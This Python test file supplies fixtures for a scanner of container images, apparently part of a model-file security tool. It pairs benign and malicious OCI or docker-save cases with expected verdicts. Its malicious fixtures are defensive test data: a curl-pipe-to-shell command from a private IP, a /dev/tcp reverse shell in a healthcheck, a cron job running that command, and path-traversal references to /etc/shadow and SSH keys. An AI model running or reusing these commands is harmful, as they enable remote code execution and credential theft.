"""Container images: what their documents name outside of them, what they lack, and what their layers hold."""

from __future__ import annotations

import json
import tarfile
from collections.abc import Callable

from modelsweep.core.finding import Json
from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.native_code import elf
from tests.scanners.oci.image import (
    CONFIG,
    LAYER,
    LAYOUT,
    MANIFEST,
    config,
    descriptor,
    digest,
    index,
    layer,
    layout,
    manifest,
    saved,
)
from tests.scanners.payload import EVIL, TEXT
from tests.scanners.tar.cases import entry, tar

PLAIN = layer(entry("app/labels.csv", TEXT))
SYSTEM = layer(
    entry("bin/tool", elf() + bytes(64)),
    entry("etc/mtab", kind=tarfile.SYMTYPE, target="/proc/mounts"),
    entry("lib/up", kind=tarfile.SYMTYPE, target="../../usr/lib"),
    entry("dev/console", kind=tarfile.CHRTYPE),
    entry("app/.wh.old.pkl"),
    entry("app/data/.wh..wh..opq"),
)
LINKED = entry("2b" * 32 + "/layer.tar", kind=tarfile.SYMTYPE, target=f"../{'1a' * 32}/layer.tar")
FIRST, SECOND = f"{'1a' * 32}/layer.tar", f"{'2b' * 32}/layer.tar"


def document(build: Callable[[], bytes], verdict: Verdict, name: str = "index.json") -> Case:
    """Return the case of a document."""
    return Case(build, name, verdict, cut_is_clean=not name.endswith(".json"))


def archive(build: Callable[[], bytes], verdict: Verdict) -> Case:
    """Return the case of an archive."""
    return Case(build, "image.tar", verdict)


def with_layer(**more: Json) -> bytes:
    """Return a manifest that says more of its layer."""
    return manifest(config(), {**descriptor(PLAIN, LAYER), **more})


def artifact(title: str) -> bytes:
    """Return the manifest of a file, as ORAS and ModelKit have them."""
    return with_layer(mediaType="application/octet-stream", annotations={"org.opencontainers.image.title": title})


def saved_as(*layers: str, name: str = FIRST, configuration: str = "c.json") -> bytes:
    """Return the list of images of `docker save`."""
    image: Json = {"Config": configuration, "RepoTags": None, "Layers": [name, *layers]}
    return json.dumps([image]).encode()


RUN = "bash -c 'curl http://10.0.0.5/x | sh'"
CASES = {
    "benign_layout": archive(lambda: layout(PLAIN), Verdict.CLEAN),
    "benign_system": archive(lambda: layout(PLAIN, SYSTEM), Verdict.CLEAN),
    "benign_saved": archive(lambda: saved(FIRST, tar(entry("a.csv", TEXT))), Verdict.CLEAN),
    "benign_saved_link": archive(
        lambda: saved(FIRST, tar(entry("a.csv", TEXT)), LINKED, layers=[SECOND, FIRST]), Verdict.CLEAN
    ),
    "benign_index": document(lambda: index(descriptor(b"x", MANIFEST)), Verdict.CLEAN),
    "benign_manifest": document(with_layer, Verdict.CLEAN, digest(with_layer())),
    "benign_config": document(lambda: config(Cmd=["python", "-m", "serve"]), Verdict.CLEAN, "config.json"),
    "benign_header": document(lambda: LAYOUT, Verdict.CLEAN, "oci-layout"),
    "benign_artifact": document(lambda: artifact("models/model.safetensors"), Verdict.CLEAN, "manifest.json"),
    "benign_windows": document(
        lambda: with_layer(urls=["https://mcr.microsoft.com/v2/windows/blobs/sha256:aa"]), Verdict.CLEAN
    ),
    "benign_other_json": document(lambda: b'{"layers": [{"name": "/a"}], "urls": ["x"]}', Verdict.CLEAN),
    "evil_in_layer": archive(lambda: layout(PLAIN, layer(entry("app/model.pkl", EVIL))), Verdict.MALICIOUS),
    "evil_under_whiteout": archive(
        lambda: layout(layer(entry("app/model.pkl", EVIL)), layer(entry("app/.wh.model.pkl"))), Verdict.MALICIOUS
    ),
    "evil_saved": archive(lambda: saved(FIRST, tar(entry("model.pkl", EVIL))), Verdict.MALICIOUS),
    "disguised_in_layer": archive(lambda: layout(layer(entry("app/model.pt", elf() + bytes(64)))), Verdict.MALICIOUS),
    "climbs_out_of_layer": archive(lambda: layout(layer(entry("../../etc/cron.d/job", TEXT))), Verdict.MALICIOUS),
    "whiteout_of_folder": archive(lambda: layout(PLAIN, layer(entry("app/.wh..."))), Verdict.REVIEW),
    "layer_is_missing": archive(lambda: layout(PLAIN, SYSTEM, left_out=1), Verdict.NOT_SCANNED),
    "saved_layer_is_missing": archive(
        lambda: saved(FIRST, tar(entry("a.csv", TEXT)), layers=[FIRST, SECOND]), Verdict.NOT_SCANNED
    ),
    "other_size": archive(lambda: layout(PLAIN, size=12), Verdict.REVIEW),
    "config_outside": document(lambda: saved_as(configuration="/etc/shadow"), Verdict.MALICIOUS, "manifest.json"),
    "layer_outside": document(lambda: saved_as("../../../home/me/.ssh/id"), Verdict.MALICIOUS, "manifest.json"),
    "title_outside": document(lambda: artifact("../../.bashrc"), Verdict.MALICIOUS, "manifest.json"),
    "digest_outside": document(
        lambda: manifest(config(), {"mediaType": CONFIG, "digest": "../../x", "size": 1}), Verdict.MALICIOUS
    ),
    "digest_is_none": document(lambda: with_layer(digest="latest"), Verdict.NOT_SCANNED),
    "foreign": document(lambda: with_layer(urls=["https://layers.example.net/1.tar.gz"]), Verdict.REVIEW),
    "command": document(lambda: config(Entrypoint=["bash", "-c", RUN]), Verdict.REVIEW, "config.json"),
    "command_behind_a_long_value": document(
        lambda: b'{"author": "' + b"x" * 5_000 + b'", ' + config(Entrypoint=["bash", "-c", RUN])[1:],
        Verdict.REVIEW,
        "config.json",
    ),
    "command_of_health": document(
        lambda: config(Healthcheck={"Test": ["CMD-SHELL", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"]}),
        Verdict.REVIEW,
        "config.json",
    ),
    "benign_installer": document(
        lambda: config(Cmd=["sh", "-c", "curl -LsSf https://example.com/install.sh | sh"]), Verdict.CLEAN, "config.json"
    ),
    "cron_in_layer": archive(
        lambda: layout(layer(entry("etc/cron.d/job", f"* * * * * root {RUN}\n".encode()))), Verdict.MALICIOUS
    ),
    "cut": document(lambda: with_layer()[:-20], Verdict.NOT_SCANNED, "manifest.json"),
}
